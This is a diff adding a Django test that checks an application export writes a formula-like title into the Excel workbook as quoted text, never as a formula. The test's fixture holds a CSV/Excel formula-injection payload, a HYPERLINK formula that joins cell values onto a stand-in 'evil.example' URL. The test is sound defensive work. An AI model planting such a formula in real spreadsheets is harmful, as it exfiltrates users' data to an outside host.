@@ -40,3 +40,17 @@ def test_a_queued_job_page_polls(client, login, commission_user):
     body = client.get(f"/jobs/{job.pk}/").content.decode()
     assert 'hx-trigger="load delay:1s"' in body and "排队中" in body
     assert client.get(f"/jobs/{job.pk}/download/").status_code == 404
+
+
+def test_export_keeps_a_formula_like_title_as_text(client, login, commission_user, django_capture_on_commit_callbacks):
+    campaign = CampaignFactory()
+    evil = '=HYPERLINK("http://evil.example/?"&C2&J2&K2,"点击查看")'
+    ApplicationFactory(campaign=campaign, state=State.SUBMITTED, title=evil)
+    login(commission_user)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(f"/campaigns/{campaign.pk}/export/")
+    job = Job.objects.get()
+    wb = load_workbook(io.BytesIO(b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)))
+    cell = wb["卓越级"]["G2"]
+    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
+    assert all(c.data_type != "f" for row in wb["卓越级"].iter_rows() for c in row)
